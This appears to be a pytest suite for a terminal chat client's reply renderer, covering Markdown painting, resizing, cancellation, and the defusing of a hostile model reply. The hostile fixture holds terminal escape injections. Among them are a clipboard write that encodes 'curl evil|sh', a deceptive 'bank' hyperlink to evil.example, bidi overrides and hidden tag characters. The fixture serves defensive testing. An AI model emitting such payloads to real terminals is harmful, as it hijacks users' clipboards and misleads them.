"""A turn on its way to the screen: painted on a terminal, plain anywhere else, and whole however it ends."""

from __future__ import annotations

import asyncio
import errno
import io
import os
import re
import sys
import time
from contextlib import suppress
from typing import TYPE_CHECKING

import pytest

from chorus_cli.core.errors import ModelError, OutputError
from chorus_cli.core.events import Asking, Notice, ReasoningDelta, TextDelta, TurnDone
from chorus_cli.core.messages import Status
from chorus_cli.terminal.reply_stream import Arrival, show_events
from chorus_cli.terminal.screen import Screen
from tests.terminal.terminal_file import XTERM, TerminalFile, seen
from tests.terminal.tmux import await_pane

if TYPE_CHECKING:
    from collections.abc import AsyncGenerator, Callable
    from pathlib import Path

    from chorus_cli.core.events import TurnEvent

_PATIENCE_SECONDS = 3.0  # it takes a third of a second, but other tests may be at work
_LONGER_THAN_A_FRAME_SECONDS = 0.2  # a frame on its way would be one of the old size
DONE = TurnDone(1, Status.COMPLETE)
ASKING = Asking("gpt-4o-mini")
HOSTILE = (
    "\x1b]52;c;Y3VybCBldmlsfHNo\x07\n\x1b[2J\x1b[H \x9b31m \x1b]8;;http://evil.example\x1b\\bank\x1b]8;;\x1b\\\n\n"
    "\x1b[6n \x1b[c a\u202eb &#x202e;c &rlm; &#27;[2J &#155;d <http://e.example/%1B%5B2J%E2%80%AE>\n\n"
    "hidden\U000e0068\U000e0069 &#xE0068;&#xE0069; [/foo] [red]\n\n"
    "[bank.example](http://evil.example) ![\x1b[2J](\x1b]52;c;eA==\x07) </kbd>\n\n"
    "```\x1b[2J\n\x1b[2J\x9b2J\n```\n\n" + "megabyte " * 12_000 + "\n\nlast words"
)


@pytest.fixture(autouse=True)
def _usual_size(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "80")
    monkeypatch.setenv("LINES", "24")


async def turn(*steps: TurnEvent | float) -> AsyncGenerator[TurnEvent, None]:
    """Yield events; numbers are seconds of silence."""
    for step in steps:
        if isinstance(step, int | float):
            await asyncio.sleep(step)
        else:
            yield step


async def shown(*steps: TurnEvent | float, environment: dict[str, str] | None = None) -> TerminalFile:
    file = TerminalFile()
    screen = Screen(file, environment or XTERM)
    await show_events(turn(*steps), screen, screen)
    assert screen.guard.blocked == 0
    return file


async def test_a_reply_is_painted_as_markdown() -> None:
    file = await shown(
        TextDelta("# He"), 0.1, TextDelta("ad\n\nsome *te"), TextDelta("xt* &am"), TextDelta("p; more"), DONE
    )
    assert file.window.text() == [" " * 38 + "Head", "", "some text & more"]
    assert "\x1b[3mtext" in file.written


@pytest.mark.parametrize(
    ("events", "has_words"),
    [
        ([], False),
        ([ASKING, Notice("Trying again in 1 s.")], False),
        ([ASKING, ReasoningDelta("hm")], False),
        ([ASKING, TextDelta(" \n"), TextDelta("")], False),
        ([ASKING, TextDelta("\n"), TextDelta("Tea"), TextDelta("\n"), ReasoningDelta("hm")], True),
    ],
    ids=["nothing", "a notice", "a thought", "blanks", "words"],
)
async def test_only_words_of_the_reply_count_as_something_that_arrived(
    events: list[TurnEvent], *, has_words: bool
) -> None:
    arrival = Arrival()
    assert [event async for event in arrival.seen_in(turn(*events))] == events
    assert arrival.has_words == has_words


@pytest.mark.parametrize("environment", [{"TERM": "dumb"}, {"TERM": "dumb", "NO_COLOR": "1"}])
async def test_a_dumb_terminal_gets_the_words_as_they_come(environment: dict[str, str]) -> None:
    file = await shown(
        ASKING,
        0.4,
        TextDelta("# He"),
        TextDelta("ad\n*te"),
        ReasoningDelta("hm"),
        TextDelta("xt*"),
        DONE,
        environment=environment,
    )
    assert file.written == "# Head\n*text*\n"


async def test_a_pipe_gets_the_words_as_they_come() -> None:
    stream = io.StringIO()
    screen = Screen(stream, XTERM)
    done = await show_events(
        turn(ASKING, 0.4, ReasoningDelta("hm"), TextDelta("# He"), TextDelta("ad\r\n*x*"), DONE), screen, screen
    )
    assert (stream.getvalue(), done) == ("# Head\n*x*\n", DONE)


async def test_without_colours_markdown_is_painted_all_the_same() -> None:
    file = await shown(TextDelta("# Head\n\n```python\nx = 1\n```\n`c`"), DONE, environment={**XTERM, "NO_COLOR": "1"})
    assert file.window.text() == [" " * 38 + "Head", "", "", " x = 1", "", "", "c"]
    assert {(cell.fg, cell.bg) for row in file.window.rows() for cell in row} == {("default", "default")}


async def test_thoughts_take_one_dim_line_until_the_reply_comes() -> None:
    file = TerminalFile()
    screen = Screen(file, XTERM)
    thoughts = [ReasoningDelta("Let me see.\n\nThe use"), ReasoningDelta("r asks\x1b[2J for " + "more " * 100 + "tea.")]
    spoken = asyncio.Event()

    async def events() -> AsyncGenerator[TurnEvent, None]:
        for thought in thoughts:
            yield thought
        await spoken.wait()
        yield TextDelta("Tea *it* is.")
        yield DONE

    showing = asyncio.create_task(show_events(events(), screen, screen))
    await seen(lambda: file.window.text() != [])
    (line,) = file.window.text()
    assert line.startswith("thinking … 0 s  ")
    assert line.endswith("more tea.")
    assert "\x1b[2mthinking" in file.written
    await seen(lambda: file.window.text()[0].startswith("thinking … 1 s"))
    spoken.set()
    await showing
    assert file.window.text() == ["Tea it is."]
    assert screen.guard.blocked == 0


async def test_thoughts_between_two_parts_of_the_reply_leave_nothing_either() -> None:
    file = await shown(
        TextDelta("One"), 0.1, ReasoningDelta("hm"), 0.2, TextDelta(" two"), 0.1, ReasoningDelta("well"), 0.2, DONE
    )
    assert "thinking" in file.written
    assert file.window.text() == ["One two"]


WAITING = " waiting for gpt-4o-mini … "


@pytest.mark.parametrize(
    ("something", "line"),
    [
        (TextDelta("Tea *it* is."), "Tea it is."),
        (ReasoningDelta("hm"), "thinking … "),
        (Notice("Trying again in 1 s."), "Trying again in 1 s."),
    ],
    ids=["words", "a thought", "what happened"],
)
async def test_who_is_waited_for_is_said_until_something_comes(something: TurnEvent, line: str) -> None:
    file = TerminalFile()
    screen = Screen(file, XTERM)
    comes = asyncio.Event()

    async def events() -> AsyncGenerator[TurnEvent, None]:
        yield ASKING
        await comes.wait()
        yield something
        await asyncio.sleep(60)

    showing = asyncio.create_task(show_events(events(), screen, screen))
    await seen(lambda: WAITING in "".join(file.window.text()))
    comes.set()
    await seen(lambda: "".join(file.window.text()).startswith(line))
    written = file.written.count(WAITING)
    await asyncio.sleep(_LONGER_THAN_A_FRAME_SECONDS)
    assert file.written.count(WAITING) == written
    showing.cancel()
    with suppress(asyncio.CancelledError):
        await showing


@pytest.mark.parametrize("end", ["a failure", "Ctrl-C"])
async def test_who_is_waited_for_is_gone_when_nothing_comes(end: str) -> None:
    file = TerminalFile()
    screen = Screen(file, XTERM)
    over = asyncio.Event()

    async def events() -> AsyncGenerator[TurnEvent, None]:
        yield ASKING
        await over.wait()
        yield TurnDone(1, Status.FAILED, error=ModelError("The line is dead."))

    showing = asyncio.create_task(show_events(events(), screen, screen))
    await seen(lambda: WAITING in "".join(file.window.text()))
    if end == "Ctrl-C":
        showing.cancel()
    over.set()
    with suppress(asyncio.CancelledError):
        await showing
    assert file.window.text() == ([] if end == "Ctrl-C" else ["The line is dead."])


async def test_a_quick_answer_is_not_waited_for() -> None:
    file = await shown(ASKING, 0.1, TextDelta("Tea."), DONE)
    assert "waiting" not in file.written


async def test_a_notice_stands_above_what_is_still_open() -> None:
    file = await shown(TextDelta("One\n\ntwo"), 0.1, Notice("Trying again."), TextDelta(" three"), DONE)
    assert file.window.text() == ["One", "Trying again.", "", "two three"]


async def test_nothing_is_painted_over_while_the_window_changes_its_size(monkeypatch: pytest.MonkeyPatch) -> None:
    file = TerminalFile()
    screen = Screen(file, XTERM)
    changed = asyncio.Event()

    async def events() -> AsyncGenerator[TurnEvent, None]:
        yield TextDelta("One")
        await seen(lambda: "One" in file.written)
        for columns in (70, 60, 50, 60):
            monkeypatch.setenv("COLUMNS", str(columns))
            yield TextDelta(" more")
            await asyncio.sleep(0.1)
        changed.set()
        yield DONE

    showing = asyncio.create_task(show_events(events(), screen, screen))
    await changed.wait()
    assert "more" not in file.written
    await showing
    assert file.window.text() == ["One more more more more"]


async def test_why_it_broke_off_stands_below_it() -> None:
    file = await shown(TextDelta("One *two"), TurnDone(1, Status.TRUNCATED, error=ModelError("The line is dead.")))
    assert file.window.text() == ["One *two", "The line is dead."]


@pytest.mark.parametrize("seconds", [0.0, 0.3])
async def test_a_reply_that_is_stopped_keeps_what_has_arrived_and_a_sane_screen(seconds: float) -> None:
    file = TerminalFile()
    screen = Screen(file, XTERM)
    steps: list[TurnEvent | float] = [TextDelta("# Head\n\n```python\nx = '"), TextDelta("1"), 60.0, TextDelta("never")]
    showing = asyncio.create_task(show_events(turn(*steps), screen, screen))
    await asyncio.sleep(seconds)
    await asyncio.sleep(0)
    showing.cancel()
    with suppress(asyncio.CancelledError):
        await showing
    screen.line("❯")
    assert file.window.text() == [" " * 38 + "Head", "", "", " x = '1", "", "❯"]
    assert file.written.count("\x1b[?2026h") == file.written.count("\x1b[?2026l")
    assert file.written.count("\x1b[?7l") == file.written.count("\x1b[?7h")


async def test_other_work_goes_on_while_a_long_reply_comes_at_once() -> None:
    file = TerminalFile()
    screen = Screen(file, XTERM)
    turns = 0

    async def count() -> None:
        nonlocal turns
        while True:
            turns += 1
            await asyncio.sleep(0)

    counting = asyncio.create_task(count())
    await show_events(turn(TextDelta("word and " * 30_000), DONE), screen, screen)
    counting.cancel()
    assert turns > 20
    assert file.written.count("word") == 30_000


@pytest.mark.parametrize("hostile", ["*_[", "![", "word and ", "| a |\n|---|\n"])
async def test_a_megabyte_that_is_stopped_gives_way_and_tells_what_is_not_shown(hostile: str) -> None:
    file = TerminalFile()
    screen = Screen(file, XTERM)
    text = (hostile * 1_000_000)[:1_000_000]
    showing = asyncio.create_task(show_events(turn(TextDelta(text), DONE), screen, screen))
    await seen(lambda: file.written != "")
    begun = time.monotonic()
    showing.cancel()
    with suppress(asyncio.CancelledError):
        await showing
    assert time.monotonic() - begun < _PATIENCE_SECONDS
    assert re.search(r"The last \d{3},\d{3} characters that had arrived are not shown\. They are kept", file.written)


async def test_an_output_that_takes_no_more_ends_the_turn() -> None:
    file = TerminalFile()
    file.failure = OSError(errno.ENOSPC, "No space left")
    screen = Screen(file, XTERM)
    with pytest.raises(OutputError, match="No space left"):
        await show_events(turn(TextDelta("One"), 1.0, TextDelta("two"), 60.0), screen, screen)


async def test_a_hostile_reply_is_defused_and_told_of() -> None:
    file = await shown(*(TextDelta(HOSTILE[start : start + 5_000]) for start in range(0, len(HOSTILE), 5_000)), DONE)
    text = "\n".join(file.window.text())
    assert '2 hidden characters in this reply (decoded: "hi")' in text
    assert '3 hidden characters in this reply, written as entities (decoded: "hi")' in text
    assert "last words" in text
    assert "bank.example (http://evil.example)" in text
    assert "[/foo] [red]" in text
    assert "]52;" not in file.written.replace("␛]52;", "")
    assert text.count("megabyte") == 12_000


def show_in(tmux: Callable[..., str], path: Path) -> None:
    tmux("send-keys", f"clear; {sys.executable} -m tests.terminal.show_reply {path}; echo en''ded", "Enter")


def test_a_hostile_reply_in_tmux_reaches_neither_clipboard_nor_keyboard(
    tmux: Callable[..., str], tmp_path: Path
) -> None:
    path = tmp_path / "reply.md"
    path.write_bytes(HOSTILE.encode())
    show_in(tmux, path)
    pane = await_pane(tmux, "\nended\n")
    assert tmux("list-buffers") == ""
    assert "blocked: 0" in pane
    assert "last words" in pane
    assert "hidden characters in this reply" in pane
    assert pane.rstrip().splitlines()[-1].strip() in {"$", "#"}


OPEN_BLOCKS = [
    "\n"
    + "".join(f"- item n{number}, with more words than a narrow window has room for\n" for number in range(100, 106)),
    "\n```\n" + "".join(f"line_of_code(n{number}) + {'x' * 20} + {'y' * 20}\n" for number in range(200, 216)),
    "```\n\n"
    + "".join(f"> quoted n{number}, and more words than a narrow window has room for\n" for number in range(300, 305)),
    "\n| a | b |\n|---|---|\n" + "".join(f"| row n{number} | {'words ' * 7}|\n" for number in range(400, 405)),
    "\n- item\n\n  ```\n" + "".join(f"  line_of_code(n{number}) + {'z' * 30}\n" for number in range(500, 505)),
    "  ```\n\n`line n600` of code\n\nlast words n601, " + "and so on " * 20,
]
SIZES = [[(50, 15)], [(30, 15), (80, 15), (30, 15)], [(80, 15)], [(45, 20)], [(80, 20), (30, 20)], [(70, 12)]]


@pytest.mark.parametrize("first_size", [0, 1])
def test_a_window_of_tmux_that_changes_its_size_shows_every_line_once(
    first_size: int, tmux: Callable[..., str], tmp_path: Path
) -> None:
    path = tmp_path / "reply.md"
    os.mkfifo(path)
    show_in(tmux, path)
    with path.open("w") as pipe:
        for text, sizes in zip(OPEN_BLOCKS, [*SIZES[first_size:], *SIZES[:first_size]], strict=True):
            pipe.write(text)
            pipe.flush()
            await_pane(tmux, re.findall("n[0-9]{3}", text)[-1])
            time.sleep(_LONGER_THAN_A_FRAME_SECONDS)
            for columns, lines in sizes:
                tmux("resize-window", "-x", str(columns), "-y", str(lines))
    pane = re.sub(r"\s", "", await_pane(tmux, "\nended\n"))
    numbers = re.findall("n[0-9]{3}", "".join(OPEN_BLOCKS))
    assert {number: pane.count(number) for number in numbers if pane.count(number) != 1} == {}
